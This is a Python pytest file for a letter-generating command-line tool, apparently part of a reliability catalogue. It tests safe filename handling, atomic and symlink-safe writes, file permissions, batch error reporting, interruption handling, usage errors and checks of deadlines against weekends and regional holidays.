    kit.batch([row(recipient__last_name="Müller/Schmidt GbR"), row(recipient__last_name="A\\B")])
    assert not [p for p in kit.out.iterdir() if p.is_dir()]
    assert len(kit.documents()) == 2


@catalogue(60, "reserved and awkward names become portable names")
def _row_60(kit: Kit) -> None:
    names = ["CON", "nul.txt", "LPT1", "Acme.", " Acme "]
    kit.batch([row(recipient__last_name=n, recipient__first_name="") for n in names])
    written = [n for n in kit.files() if n.endswith(".md")]
    assert len(written) == 5
    for name in written:
        stem = name.removesuffix(".md").split(".")[0].upper()
        assert stem not in {"CON", "NUL", "LPT1", "PRN", "AUX"} and not name.startswith((" ", "."))


@catalogue(61, "a very long name is cut on a character, stays below 255 bytes, is stable")
def _row_61(kit: Kit) -> None:
    kit.batch([row(recipient__last_name="ü" * 300)])
    first = [n for n in kit.files() if n.endswith(".md")]
    assert len(first) == 1 and len(first[0].encode()) <= 255
    shutil.rmtree(kit.out)
    kit.batch([row(recipient__last_name="ü" * 300)])
    assert [n for n in kit.files() if n.endswith(".md")] == first


@catalogue(62, "NFC and NFD of one name never overwrite each other")
def _row_62(kit: Kit) -> None:
    nfd = unicodedata.normalize("NFD", "Müller")
    kit.batch([row(), row(recipient__last_name=nfd)])
    written = [n for n in kit.files() if n.endswith(".md")]
    assert len(written) == 2 and all(unicodedata.is_normalized("NFC", n) for n in written)


@catalogue(63, "two rows for one client get two files")
def _row_63(kit: Kit) -> None:
    kit.batch([row(), row()])
    assert len(kit.documents()) == 2


@catalogue(64, "an existing output is not touched without --force; the row is reported")
def _row_64(kit: Kit) -> None:
    kit.out.mkdir()
    (kit.out / "mueller-katrin.md").write_bytes(b"mine")
    result = kit.batch([row()])
    assert result.exit_code == 1 and "out/mueller-katrin.md already exists" in result.stderr
    assert (kit.out / "mueller-katrin.md").read_bytes() == b"mine"


@catalogue(65, "--force replaces atomically (a new inode, never a partial file)")
def _row_65(kit: Kit) -> None:
    kit.out.mkdir()
    target = kit.out / "mueller-katrin.md"
    target.write_bytes(b"old")
    inode = target.stat().st_ino
    assert kit.batch([row()], "--force").exit_code == 0
    assert target.read_text("utf-8").startswith("---\ntitle:") and target.stat().st_ino != inode


@catalogue(66, "a symlink planted at the output path is replaced, never followed")
def _row_66(kit: Kit) -> None:
    kit.out.mkdir()
    (kit.out / "mueller-katrin.md").symlink_to(kit.canary)
    kit.batch([row()])
    kit.batch([row()], "--force")
    assert kit.canary.read_text("utf-8") == CANARY_TEXT
    assert not (kit.out / "mueller-katrin.md").is_symlink()


@catalogue(67, "an output directory that is a file is refused before any row")
def _row_67(kit: Kit) -> None:
    kit.out.write_text("x", encoding="utf-8")
    result = kit.batch([row()])
    assert result.exit_code == 2 and "out" in result.stderr


@catalogue(68, "a file size limit mid-run: the row fails with EFBIG, no partial or temp file")
def _row_68(kit: Kit) -> None:
    reason = "Das gibt Ihnen einen verlässlichen Stand. " * 600
    write_csv(kit.tmp / "rows.csv", [row(), row(recipient__last_name="Lang", reason=reason)],
              columns=[*COLUMNS, "reason"])

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, 16_384))

    process = kit.process("batch", "deadline-offer", "rows.csv", "-l", "de", "-o", "out", *TODAY_ARG,
                          preexec=limit)
    _stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 1 and "cannot write (File too large)" in stderr
    assert kit.files() == ["mueller-katrin.md", "report.csv", "report.json"]


@catalogue(69, "SIGINT: complete files only, a report, exit 130")
def _row_69(kit: Kit) -> None:
    write_csv(kit.tmp / "rows.csv", [row(recipient__last_name=f"K{i}") for i in range(20_000)])
    process = kit.process("batch", "deadline-offer", "rows.csv", "-l", "de", "-o", "out", *TODAY_ARG)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list(kit.out.glob("*.md")) if kit.out.is_dir() else []) < 10:
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    _stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert not [n for n in kit.files() if n.startswith(".")]
    assert kit.report()["summary"]["interrupted"] is True


@catalogue(70, "documents are private (0600)")
def _row_70(kit: Kit) -> None:
    old = os.umask(0o022)
    try:
        kit.batch([row()])
    finally:
        os.umask(old)
    assert (kit.out / "mueller-katrin.md").stat().st_mode & 0o777 == 0o600


# --- batch semantics (rows 71–76) ---------------------------------------------------------------


@catalogue(71, "one bad row of ten: nine written, one reported, exit 1")
def _row_71(kit: Kit) -> None:
    rows = [row(recipient__last_name=f"K{i}") for i in range(10)]
    rows[4] = row(recipient__last_name="K4", recipient__email="kunde@@example.de")
    result = kit.batch(rows)
    assert result.exit_code == 1
    assert "9 written, 1 failed, 0 skipped (10 rows)" in result.stderr
    failed = [r for r in kit.report()["rows"] if r["status"] == "failed"]
    assert [(r["line"], r["recipient"]) for r in failed] == [(6, "Katrin K4")]
    assert len(kit.documents()) == 9


@catalogue(72, "every row bad: no files, all rows reported, exit 1")
def _row_72(kit: Kit) -> None:
    result = kit.batch([row(deadline="soon"), row(deadline="later")])
    assert result.exit_code == 1 and kit.documents() == {}
    assert [r["status"] for r in kit.report()["rows"]] == ["failed", "failed"]


@catalogue(73, "an error of every row fails once: preflight, or a few rows and one message")
def _row_73(kit: Kit) -> None:
    missing = kit.batch([[v for c, v in GOOD.items() if c != "deliverable"]],
                        columns=[c for c in COLUMNS if c != "deliverable"])
    assert missing.exit_code == 2 and missing.stderr.count("deliverable") == 1 and kit.files() == []
    kit.pack("{{ 1/0 }}")
    rows = [{"recipient.last_name": f"K{i}", "recipient.gender": "female", "sender.name": "A",
             "amount": "1"} for i in range(200)]
    result = kit.batch(rows, "--pack", "pack", scenario="invoice-reminder",
                       columns=["recipient.last_name", "recipient.gender", "sender.name", "amount"])
    assert result.exit_code == 1 and "so every row would" in result.stderr
    assert len(kit.report()["rows"]) < 10


@catalogue(74, "--fail-fast stops at the first failing row and says where")
def _row_74(kit: Kit) -> None:
    result = kit.batch([row(), row(deadline="x", recipient__last_name="B"), row(recipient__last_name="C")],
                       "--fail-fast")
    assert result.exit_code == 1 and "stopped at line 3 (--fail-fast)" in result.stderr
    assert list(kit.documents()) == ["mueller-katrin.md"]


@catalogue(75, "a re-run is idempotent: unchanged files, --force byte-identical")
def _row_75(kit: Kit) -> None:
    rows = [row(), row(recipient__last_name="Weber")]
    assert kit.batch(rows, "--format", "eml").exit_code == 0
    first = kit.documents()
    again = kit.batch(rows, "--format", "eml")
    assert again.exit_code == 0 and "0 written, 2 unchanged, 0 failed" in again.stderr
    assert kit.batch(rows, "--format", "eml", "--force").exit_code == 0
    assert kit.documents() == first


@catalogue(76, "--dry-run writes nothing; the exit status tells")
def _row_76(kit: Kit) -> None:
    good = kit.batch([row()], "--dry-run")
    assert good.exit_code == 0 and not kit.out.exists()
    bad = kit.batch([row(deadline="x")], "--dry-run")
    assert bad.exit_code == 1 and not kit.out.exists()


# --- the command line and semantic dates (rows 77–78) ------------------------------------------


@catalogue(77, "usage errors: exit 2, Usage: and the parameter named")
def _row_77(kit: Kit) -> None:
    for args, piece in [
        (["render", "deadline-offer", "--bogus"], "No such option '--bogus'"),
        (["batch", "deadline-offer"], "Missing argument"),
        (["render", "deadline-offer", "--format", "docx"], "Invalid value for '--format'"),
        (["batch", "deadline-offer", "missing.csv", "-o", "out"], "Invalid value for 'ROWS"),
        (["plan", "--effort-days", "5", "--buffer", "-3"], "buffer: '-3' must not be negative"),
        (["render", "deadline-offer", "--example", "--today", "31.02.2025"], "Invalid value for '--today'"),
        (["render", "deadline-offer", "--example", "--lang", "xx"], "xx"),
        (["render", "deadline-offer", "--example", "--lang", ""], "lang"),
    ]:
        result = kit.cli(*args)
        assert result.exit_code == 2, args
        assert "Usage:" in result.stderr and piece in result.stderr, (args, result.stderr)


@catalogue(78, "semantic dates: past, weekend, regional holiday; a hint without a state")
def _row_78(kit: Kit) -> None:
    past = kit.render("--set", "deadline=2026-11-20")
    assert past.exit_code == 2 and "2026-11-20 is in the past (today is 2026-11-24)" in past.stderr
    weekend = kit.render("--set", "deadline=2026-12-05")
    assert weekend.exit_code == 2 and "Saturday" in weekend.stderr and "2026-12-07" in weekend.stderr
    day = ["--today", "2026-05-20", "--set", "deadline=2026-06-04"]
    bavaria = kit.cli("render", "deadline-offer", "--lang", "de", "--example", *day, "--set", "region=DE-BY")
    assert bavaria.exit_code == 2 and "Fronleichnam" in bavaria.stderr and "2026-06-05" in bavaria.stderr
    berlin = kit.cli("render", "deadline-offer", "--lang", "de", "--example", *day, "--set", "region=DE-BE")
    assert berlin.exit_code == 0 and berlin.stderr == ""
    nationwide = kit.cli("render", "deadline-offer", "--lang", "de", "--example", *day)
    assert nationwide.exit_code == 0
    assert "Note: deadline: 2026-06-04 is a public holiday in some German states" in nationwide.stderr
    rows = kit.batch([row(deadline="2026-12-05")])
    assert rows.exit_code == 1 and "rows.csv:2: deadline: 2026-12-05 is a Saturday" in rows.stderr


# --- the table ----------------------------------------------------------------------------------


def test_the_catalogue_has_a_case_for_every_row() -> None:
    text = (ROOT.parent / "shared" / "notes" / "reliability-catalogue.md")
    numbers = set(range(1, 79))
    if text.is_file():
        import re

        numbers = {int(n) for n in re.findall(r"^\| (\d+) \|", text.read_text("utf-8"), re.MULTILINE)}
    assert numbers == set(ROWS), sorted(numbers ^ set(ROWS))


@pytest.mark.parametrize(
    "number", sorted(ROWS), ids=[f"row {n:02d} {ROWS[n][0]}" for n in sorted(ROWS)]
)
def test_catalogue_row(number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PHRASEBOOK_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PHRASEBOOK_CANARY_SECRET", SECRET)
    monkeypatch.chdir(tmp_path)
    ROWS[number][1](Kit(tmp_path))
